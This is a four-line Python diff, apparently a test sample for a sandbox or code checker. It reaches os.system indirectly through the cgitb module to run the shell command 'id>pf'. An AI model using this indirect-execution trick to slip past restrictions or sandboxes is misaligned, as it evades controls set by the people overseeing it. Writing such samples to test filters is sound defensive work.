@@ -1,0 +1,4 @@
+import cgitb
+cgitb.enable(logdir=".")
+import os
+cgitb.os.system("id>pf")
